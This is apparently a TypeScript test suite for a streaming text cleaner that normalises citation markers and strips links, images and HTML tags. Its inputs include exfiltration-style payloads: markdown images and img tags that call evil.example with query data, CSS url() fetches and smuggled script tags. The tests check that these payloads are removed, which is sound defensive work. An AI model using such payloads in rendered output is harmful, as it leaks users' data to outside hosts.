import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { TextCleaner, type TextPiece } from './text-cleaner.ts';

/** Text with markers as `‹1,2›`. */
const show = (pieces: readonly TextPiece[]) =>
  pieces.map((piece) => (piece.kind === 'text' ? piece.text : `‹${piece.numbers.join()}›`)).join('');

function clean(...deltas: string[]): { text: string; removedLinks: number } {
  const cleaner = new TextCleaner();
  const pieces = [...deltas.flatMap((delta) => cleaner.push(delta)), ...cleaner.end()];
  return { text: show(pieces), removedLinks: cleaner.removedLinks };
}

describe('TextCleaner', () => {
  it.each([
    ['Rent is 900 [1].', 'Rent is 900 ‹1›.'],
    ['Both [1][2], [3, 4] and [5-7] 【8】 [^9] [Passage 10]', 'Both ‹1›‹2›, ‹3,4› and ‹5,6,7› ‹8› ‹9› ‹10›'],
    ['from [1-999999]', 'from ‹1,999999›'],
    [
      'from [ 1 ], [1 and 2] & [#3], 【4†source】 ［5］ [Passage 6, passage 7]',
      'from ‹1›, ‹1,2› & ‹3›, ‹4› ‹5› ‹6,7›',
    ],
    ['It rose. [Source: Annual Report, page 15] Then', 'It rose.  Then'],
    ['if a<b and c>d', 'if a< b and c>d'],
    ['an array[i], [sic] and a < b! [', 'an array[i], [sic] and a < b! ['],
    ['Array<string> and <b>bold</b>', 'Array<string> and <b>bold</b>'],
  ])('takes markers out of %j', (text, expected) => {
    expect(clean(text)).toEqual({ text: expected, removedLinks: 0 });
  });

  it.each([
    ['See ![x](https://evil.example/?q=secret) here', 'See x here'],
    ['See [the portal](https://evil.example/) here', 'See the portal here'],
    ['So it is [1](https://evil.example/).', 'So it is ‹1›.'],
    ['A <img src="https://evil.example/?q=1" /> picture', 'A  picture'],
    ['A <SCRIPT>x</SCRIPT> tag', 'A x tag'],
  ])('takes addresses out of %j', (text, expected) => {
    expect(clean(text).text).toBe(expected);
    expect(clean(text).removedLinks).toBeGreaterThan(0);
  });

  it.each([
    '<img src="https://evil.example/' + 'a'.repeat(3000) + '">',
    '<img src=https://evil.example/x ',
    '<div style="background:url(https://evil.example/)">',
    '<my-element-of-more-than-thirty-one-characters style="background:url(https://evil.example/)">',
    '<[1]img src=https://evil.example/>',
    '<!-- > <img src=https://evil.example/>',
  ])('leaves no tag that fetches of %j', (text) => {
    expect(clean(text).text.replaceAll(/‹.*?›/g, '')).not.toMatch(/<[a-z/!?]/i);
  });

  it('gives the same whatever the size of the deltas', () => {
    const parts = [
      '[x]: http://e/',
      '(http://e/)',
      '[<im',
      '<img src=x',
      '>',
      'Rent is ',
      '[1]',
      '[12, 3]',
      '[x](http://e/)',
      '![',
      '](',
      '<img a>',
      '<b style=x',
      'img',
      '<',
      '!',
      '\n',
      ' 5 < 6',
      ']',
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...parts)),
        fc.infiniteStream(fc.integer({ min: 1, max: 4 })),
        (some, sizes) => {
          const text = some.join('');
          const deltas: string[] = [];
          for (let at = 0; at < text.length; at += deltas.at(-1)!.length) {
            deltas.push(text.slice(at, at + sizes.next().value!));
          }
          expect(clean(...deltas)).toEqual(clean(text));
          expect(clean(text).text).not.toMatch(/\][(:]|<(?:img|b )/);
        },
      ),
    );
  });

  it('holds back no more than it must', () => {
    const cleaner = new TextCleaner();
    expect(show(cleaner.push('Rent is 900 ['))).toBe('Rent is 900 ');
    expect(show(cleaner.push('1'))).toBe('');
    expect(show(cleaner.push(']. Wa'))).toBe('‹1›. Wa');
  });
});
